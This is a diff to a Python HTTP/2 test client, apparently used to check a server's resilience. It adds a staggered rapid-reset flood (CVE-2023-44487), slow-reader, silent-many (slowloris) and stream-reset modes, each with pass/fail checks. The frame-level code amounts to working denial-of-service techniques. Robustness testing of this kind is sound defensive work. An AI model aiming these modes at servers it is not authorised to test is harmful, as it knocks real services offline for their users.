@@ -8,17 +8,23 @@ HPACK encoder, CONTINUATION, DATA, RST_STREAM, WINDOW_UPDATE, PING) over TLS
   h2attack.py MODE --port P [--tls] [options]
 
   get                 one GET, expects 200 (a sanity check of this client)
-  rapid-reset         --count N: HEADERS + RST_STREAM(CANCEL) pairs (CVE-2023-44487)
+  rapid-reset         --count N: HEADERS + RST_STREAM(CANCEL) pairs (CVE-2023-44487);
+                      --stagger: each batch of 100 HEADERS, a 5 ms pause, then their resets
   continuation-flood  HEADERS without END_HEADERS, then endless CONTINUATION frames
   oversized-headers   --size N: one request whose header list is N bytes; the stream
                       must be refused and the connection keep serving (or close cleanly)
   huge-header         one header field of --size bytes (above HPACK limits)
   silent              connect and send nothing
+  silent-many         --count N connections at once that send nothing
   dribble             send a valid start (TLS ClientHello / h2 preface) one byte at a time
   silent-after-tls    complete the TLS handshake, then send nothing
+  idle                one GET, then an idle connection (closed by idle timeout or stop)
   half-headers        HEADERS without END_HEADERS, then nothing
   half-body           POST headers and part of the body, then nothing
   vanish              --count N: half-sent requests whose client disconnects at once
+  reset-one           GET --path, RST_STREAM after --delay s, then a GET on the same connection
+  disconnect-one      GET --path, the client disconnects after --delay s
+  slow-reader         --count N GETs of --path (large windows), then no reading for --within s
   random              --bytes N of random data (--after-preface: after a valid preface)
   maxconn             --hold N --extra K: N connections are served, K more are refused,
                       and a new client is served once the N are closed
@@ -363,19 +369,74 @@ def m_rapid_reset(args):
     block = hpack_encode(request_headers(args, path=args.path))
     sent, sid, t0 = 0, 1, time.monotonic()
     while sent < args.count and not c.ended_by_server():
-        batch = bytearray()
-        for _ in range(min(100, args.count - sent)):
-            batch += frame(HEADERS, END_HEADERS | END_STREAM, sid, block) + rst(sid, 8)
-            sid += 2
-            sent += 1
-        if not c.send(bytes(batch)):
+        n = min(100, args.count - sent)
+        ids = list(range(sid, sid + 2 * n, 2))
+        sid += 2 * n
+        sent += n
+        heads = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block) for i in ids)
+        resets = b"".join(rst(i, 8) for i in ids)
+        if args.stagger:
+            # The handlers start before their streams are reset.
+            if not c.send(heads):
+                break
+            c.poll(0.005)
+            if not c.send(resets):
+                break
+        elif not c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block) + rst(i, 8)
+                                 for i in ids)):
             break
         c.poll(0)
     ended = c.wait_end(args.within)
-    msg = "rapid reset: %d HEADERS+RST_STREAM pairs sent in %.2f s; server: %s" % (
-        sent, time.monotonic() - t0, c.outcome())
+    msg = "rapid reset%s: %d HEADERS+RST_STREAM pairs sent in %.2f s; server: %s" % (
+        " (staggered)" if args.stagger else "", sent, time.monotonic() - t0, c.outcome())
     c.close()
     return result(ended, msg)
+
+
+def m_reset_one(args):
+    """GET --path, RST_STREAM(CANCEL) after --delay s; the connection must keep serving."""
+    c = Conn(args)
+    c.start()
+    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, hpack_encode(request_headers(args, path=args.path))))
+    c.poll(args.delay)
+    answered_first = 1 in c.ended
+    c.send(rst(1, 8))
+    c.poll(0.2)
+    _, status = get(args, conn=c, stream=3)
+    c.close()
+    return result(status == "200" and not answered_first,
+                  "GET %s reset after %.2f s%s; the next request on the connection got status %s" % (
+                      args.path, args.delay, " (but it was already answered)" if answered_first else "",
+                      status))
+
+
+def m_disconnect_one(args):
+    """GET --path, then the client disconnects after --delay s."""
+    c = Conn(args)
+    c.start()
+    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, hpack_encode(request_headers(args, path=args.path))))
+    c.poll(args.delay)
+    answered = 1 in c.ended
+    c.close()
+    return result(not answered, "GET %s, client gone after %.2f s%s" % (
+        args.path, args.delay, " (but it was already answered)" if answered else ""))
+
+
+def m_slow_reader(args):
+    """--count GETs of --path with large windows, then reads nothing for --within s."""
+    c = Conn(args)
+    c.start()
+    for i in range(args.count):
+        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1,
+                     hpack_encode(request_headers(args, path=args.path))))
+    log("slow-reader: %d requests sent, not reading" % args.count)
+    time.sleep(args.within)
+    # Then read a little: the connection must still be alive and sending.
+    c.poll(1, until=lambda: c.data)
+    got = sum(c.data.values())
+    c.close()
+    return result(got > 0 or not c.closed, "slow reader: %d streams of %s, not read for %.1f s; then "
+                  "%d body bytes arrived (%s)" % (args.count, args.path, args.within, got, c.outcome()))
 
 
 def m_continuation_flood(args):
@@ -466,6 +527,27 @@ def m_silent(args):
     return timed_end(c, args.within, "silent connection")
 
 
+def m_silent_many(args):
+    """--count raw connections at once that send nothing (slowloris)."""
+    conns = [Conn(args, handshake=False) for _ in range(args.count)]
+    t0 = time.monotonic()
+    open_ = list(conns)
+    while open_ and time.monotonic() - t0 < args.within:
+        r, _, _ = select.select([c.sock for c in open_], [], [], 0.1)
+        for c in open_:
+            if c.sock in r:
+                try:
+                    if not c.sock.recv(4096):
+                        c.mark_closed("EOF")
+                except OSError as e:
+                    c.mark_closed("recv: %s" % e.__class__.__name__)
+        open_ = [c for c in open_ if not c.closed]
+    for c in conns:
+        c.close()
+    return result(not open_, "%d silent connections: %d closed by the server within %.2f s" % (
+        args.count, args.count - len(open_), time.monotonic() - t0))
+
+
 def m_silent_after_tls(args):
     c = Conn(args)  # TLS handshake done, no HTTP/2 preface
     return timed_end(c, args.within, "TLS handshake then silence")
@@ -508,6 +590,15 @@ def half_body(args, c):
     c.send(frame(HEADERS, END_HEADERS, 1, hpack_encode(request_headers(
         args, method="POST", path=args.path, extra=[("content-length", "100000")]))))
     c.send(frame(DATA, 0, 1, b"d" * 1000))
+
+
+def m_idle(args):
+    """One GET, then an idle open connection until the server ends it."""
+    c, status = get(args)
+    if status != "200":
+        return result(False, "idle: the first GET got status %s (%s)" % (status, c.outcome()))
+    log("idle: GET answered, now idle")
+    return timed_end(c, args.within, "idle connection after one request")
 
 
 def m_half_body(args):
@@ -606,9 +697,10 @@ def m_maxconn(args):
 
 
 MODES = {"get": m_get, "rapid-reset": m_rapid_reset, "continuation-flood": m_continuation_flood,
-         "oversized-headers": m_oversized_headers, "huge-header": m_huge_header, "silent": m_silent,
-         "silent-after-tls": m_silent_after_tls, "dribble": m_dribble, "half-headers": m_half_headers,
-         "half-body": m_half_body, "vanish": m_vanish, "random": m_random, "maxconn": m_maxconn}
+         "oversized-headers": m_oversized_headers, "huge-header": m_huge_header, "silent": m_silent, "silent-many": m_silent_many,
+         "silent-after-tls": m_silent_after_tls, "dribble": m_dribble, "half-headers": m_half_headers, "idle": m_idle,
+         "half-body": m_half_body, "vanish": m_vanish, "slow-reader": m_slow_reader, "reset-one": m_reset_one,
+         "disconnect-one": m_disconnect_one, "random": m_random, "maxconn": m_maxconn}
 
 
 def main():
@@ -621,7 +713,9 @@ def main():
     p.add_argument("--size", type=int, default=100000)
     p.add_argument("--bytes", type=int, default=65536)
     p.add_argument("--within", type=float, default=10.0, help="seconds the server has to react")
+    p.add_argument("--delay", type=float, default=0.3, help="reset-one/disconnect-one: seconds")
     p.add_argument("--interval", type=float, default=0.1)
+    p.add_argument("--stagger", action="store_true", help="rapid-reset: RST_STREAMs after a pause")
     p.add_argument("--empty", action="store_true", help="empty CONTINUATION frames")
     p.add_argument("--after-preface", action="store_true")
     p.add_argument("--hold", type=int, default=4)
